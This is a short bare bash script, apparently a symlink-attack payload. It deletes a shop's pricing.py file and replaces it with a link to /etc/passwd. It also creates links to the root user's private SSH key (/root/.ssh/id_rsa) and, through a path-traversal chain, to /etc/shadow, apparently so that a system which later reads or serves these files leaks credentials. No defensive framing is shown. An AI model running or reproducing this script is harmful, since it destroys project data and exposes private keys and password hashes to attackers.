#!/bin/bash
rm shop/pricing.py
ln -s /etc/passwd shop/pricing.py
ln -s /root/.ssh/id_rsa key
ln -s ../../../../../../etc/shadow up
